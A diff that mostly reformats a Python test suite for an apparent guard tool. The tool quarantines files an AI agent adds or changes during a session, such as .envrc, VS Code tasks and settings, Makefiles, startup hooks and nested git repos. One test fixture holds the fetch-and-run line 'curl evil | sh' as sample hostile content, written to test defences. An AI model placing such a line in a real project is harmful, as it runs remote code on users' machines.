@@ -34,21 +34,41 @@ def project(tmp_path: Path) -> Path:
     return root
 
 
-def run(project: Path, state: Path, session: str, change: object, surface: str = "ask",
-        ask: object = None) -> guard.Outcome:  # fmt: skip
-    prepared = guard.prepare(project=str(project), uid=UID, mask=(), unmask=(), no_mask=False,
-                             state=str(state), session=session)  # fmt: skip
+def run(
+    project: Path, state: Path, session: str, change: object, surface: str = "ask", ask: object = None
+) -> guard.Outcome:
+    prepared = guard.prepare(
+        project=str(project), uid=UID, mask=(), unmask=(), no_mask=False, state=str(state), session=session
+    )
     assert callable(change)
     change()
-    return guard.finish(project=str(project), uid=UID, prepared_baseline=prepared.baseline,
-                        policy=prepared.policy, mask=(), unmask=(), no_mask=False, state=str(state),
-                        session=session, git_start=None, git_upper=None, surface=surface,
-                        ask=ask)  # type: ignore[arg-type]  # fmt: skip
+    return guard.finish(
+        project=str(project),
+        uid=UID,
+        prepared_baseline=prepared.baseline,
+        policy=prepared.policy,
+        mask=(),
+        unmask=(),
+        no_mask=False,
+        state=str(state),
+        session=session,
+        git_start=None,
+        git_upper=None,
+        surface=surface,
+        ask=ask,
+    )  # type: ignore[arg-type]
 
 
 def test_prepare_masks_and_pins(project: Path, tmp_path: Path) -> None:
-    prepared = guard.prepare(project=str(project), uid=UID, mask=(), unmask=(), no_mask=False,
-                             state=str(tmp_path / "state"), session="s1")  # fmt: skip
+    prepared = guard.prepare(
+        project=str(project),
+        uid=UID,
+        mask=(),
+        unmask=(),
+        no_mask=False,
+        state=str(tmp_path / "state"),
+        session="s1",
+    )
     assert prepared.masked_files == (".env",)
     assert [b.rel for b in prepared.readonly] == [".vscode"]
     st = os.stat(project / ".vscode")
@@ -78,7 +98,12 @@ def test_new_host_executed_files_are_set_aside_and_can_be_accepted(project: Path
     assert not (project / ".vscode" / "tasks.json").exists()
     held = quarantine.load(str(state), "s1")
     assert held is not None
-    assert {i.path for i in held.items} == {".envrc", "sub/.envrc", ".vscode/settings.json", ".vscode/tasks.json"}
+    assert {i.path for i in held.items} == {
+        ".envrc",
+        "sub/.envrc",
+        ".vscode/settings.json",
+        ".vscode/tasks.json",
+    }
     done, refused = quarantine.accept(str(state), held, [".envrc", "nope"])
     assert [i.path for i in done] == [".envrc"] and [r.path for r in refused] == ["nope"]
     assert (project / ".envrc").read_text() == "curl evil | sh\n"
@@ -105,7 +130,7 @@ def test_a_yes_at_the_prompt_keeps_the_change(project: Path, tmp_path: Path) -> 
 
     run(project, tmp_path / "state", "s1", lambda: write(project / ".mcp.json", '{"x": 1}\n'), ask=ask)
     assert (project / ".mcp.json").read_text() == '{"x": 1}\n'
-    assert "+{\"x\": 1}" in asked[0]
+    assert '+{"x": 1}' in asked[0]
 
 
 def test_setuid_bits_are_removed_and_reported(project: Path, tmp_path: Path) -> None:
@@ -134,9 +159,15 @@ def test_build_files_executables_repos_and_links(project: Path, tmp_path: Path) 
 
     outcome = run(project, tmp_path / "state", "s1", session)
     found = {(c.kind, c.path) for c in outcome.changes}
-    assert {("build", "Makefile"), ("executable", "tools/run"), ("repo", "vendor/lib/.git"),
-            ("surface", "vendor/lib/.git/config"), ("link-outside", "out"),
-            ("startup", ".venv/lib/site-packages/x.pth"), ("startup", "node_modules/.bin/x")} <= found  # fmt: skip
+    assert {
+        ("build", "Makefile"),
+        ("executable", "tools/run"),
+        ("repo", "vendor/lib/.git"),
+        ("surface", "vendor/lib/.git/config"),
+        ("link-outside", "out"),
+        ("startup", ".venv/lib/site-packages/x.pth"),
+        ("startup", "node_modules/.bin/x"),
+    } <= found
     # The Makefile stays (the agent edits build files as part of its work).
     assert "evil" in (project / "Makefile").read_text()
     # The nested repository's config is held, as a hook would be.
